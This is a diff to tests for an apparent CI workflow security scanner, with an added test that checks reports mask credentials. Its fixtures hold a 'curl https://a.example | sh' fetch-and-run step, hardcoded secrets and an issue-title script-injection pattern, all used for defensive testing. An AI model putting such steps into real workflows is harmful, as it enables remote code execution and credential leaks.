@@ -52,11 +52,7 @@ def test_a_finding_says_everything_that_a_report_needs() -> None:
     (finding,) = found.findings
     assert finding.severity is Severity.HIGH
     assert finding.span == (f"org/repo/{WORKFLOW}", 7, 20, 7, 51)
-    assert (finding.platform, finding.job, finding.step) == (
-        "github",
-        "greet",
-        'echo "${{ github.event.issue.title }}"',
-    )
+    assert (finding.platform, finding.job, finding.step) == ("github", "greet", "step 1")
     assert finding.excerpt == ('      - run: echo "${{ github.event.issue.title }}"',)
     assert finding.message == (
         "`${{ github.event.issue.title }}` is written by whoever opens the issue and read as code"
@@ -64,6 +60,17 @@ def test_a_finding_says_everything_that_a_report_needs() -> None:
     (related,) = finding.related
     assert related.span == (f"org/repo/{WORKFLOW}", 1, 5, 1, 11)
     assert related.message == "`issues` lets outsiders start it"
+
+
+def test_no_report_ever_shows_a_credential(book: Rulebook) -> None:
+    value = "q9Tz".join(("Ku7w", "Rpm2Lx4v"))
+    text = ISSUE.replace("run: echo", f"run: PASSWORD={value} curl https://a.example | sh; echo")
+    found = part(
+        {WORKFLOW: text.replace("    steps:", f"    env: {{API_TOKEN: {value}}}\n    steps:")}, book
+    )
+    assert {"plaintext-secret", "remote-script", "script-injection"} <= set(rules(found))
+    assert value not in repr(found)
+    assert any("•" * len(value) in finding.excerpt[0] for finding in found.findings)
 
 
 def test_a_fingerprint_keeps_when_lines_move_and_differs_between_equal_findings() -> None:
